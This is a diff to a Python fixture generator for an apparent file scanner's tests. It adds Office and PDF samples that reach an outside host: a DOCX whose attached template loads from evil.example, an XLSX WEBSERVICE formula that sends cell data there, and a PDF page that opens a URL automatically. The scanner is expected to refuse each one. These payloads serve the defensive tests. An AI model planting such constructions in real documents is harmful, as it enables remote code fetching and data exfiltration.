+# opening these reaches another host: a Word template fetched from an address, an Excel
+# formula that fetches, a PDF page that opens an address by itself
+W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+d('file-docx-with-remote-template', {F + '说明.docx': docx(['说明'], {
+    'word/settings.xml': f'<?xml version="1.0"?><w:settings {W_NS}><w:attachedTemplate r:id="rId1"/></w:settings>',
+    'word/_rels/settings.xml.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'})},
+  [(F + '说明.docx', 1, 'file-refused')])
+d('file-xlsx-with-webservice-formula', {F + '表.xlsx': xlsx([['单位'], ['=WEBSERVICE("http://evil.example/?q="&A1)']])}, [(F + '表.xlsx', 1, 'file-refused')])
+d('file-pdf-page-opens-a-web-address', {F + 'open.pdf': pdf('x').replace(b'/Type /Page ', b'/Type /Page /AA << /O << /S /URI /URI (http://evil.example/o) >> >> ')}, [(F + 'open.pdf', 1, 'file-refused')])
 d('file-vcf-with-mobile', {F + 'card.vcf': 'BEGIN:VCARD\nVERSION:3.0\nFN:Zhang\nTEL:13812345678\nEND:VCARD\n'}, [(F + 'card.vcf', 4, 'personal-phone')])
 d('file-tsv-with-id-number', {F + '名单.tsv': f'姓名\t证件号\n张三\t{ID1}\n'}, [(F + '名单.tsv', 2, 'personal-id-number')])
 d('file-csv-gb18030-with-email', {F + '联系.csv': '姓名,邮箱\n张三,zhang3@qq.com\n'.encode('gb18030')}, [(F + '联系.csv', 2, 'personal-email')])
@@ -771,9 +865,12 @@ d('document-template-style-renamed', {T: template_with('word/styles.xml', 'w:nam
 d('document-template-body-placeholder-deleted', {T: template_with('word/document.xml', '{{正文}}', '正文')}, [(T, 0, 'document-template-placeholder')])
 
 import shutil
-if base.exists(): shutil.rmtree(base)
+# Only the folders written here are replaced: a fixture made by hand (a workbook saved
+# by Excel, say) stays as it is.
 for name, (files, expected, remove) in D.items():
     folder = base / name
+    if folder.exists():
+        shutil.rmtree(folder)
     folder.mkdir(parents=True)
     for rel, content in files.items():
         p = folder / rel
